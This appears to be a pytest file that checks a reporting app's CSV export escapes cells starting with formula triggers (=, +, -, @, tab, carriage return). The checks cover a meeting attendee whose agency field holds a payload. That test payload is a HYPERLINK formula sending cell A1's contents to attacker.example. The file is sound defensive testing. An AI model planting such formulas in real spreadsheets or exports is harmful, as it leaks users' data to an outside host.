"""CSV formula injection (issue 16, item 9): a text cell of the reports' CSV that starts with
=, +, -, @, tab or carriage return is written with a leading single quote, so a spreadsheet
shows it as text instead of running it."""

from __future__ import annotations

import csv
import io

import pytest

from app.rules.reporting import csv_cell
from tests.support import expect, make_meeting

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_formula_triggers_are_neutralised(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["NHS", "2025-12-18", "", "a=b", 3, -3, 0.5, None, True])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value


def test_an_agency_named_as_a_formula_is_text_in_the_summary_csv(api):
    m = make_meeting(api)
    attendee = {
        "person_id": m.professional_id,
        "name": "Prof One",
        "role_title": "Worker",
        "agency": HYPERLINK,
        "kind": "professional",
        "attended": True,
    }
    expect(m.record.post(f"{m.url}/attendees", json=attendee), 200)
    m.start()
    m.raise_dissent()
    m.decide_all()
    m.confirm_all()
    m.end()
    r = m.admin.get("/v1/reports/summary", headers={"Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
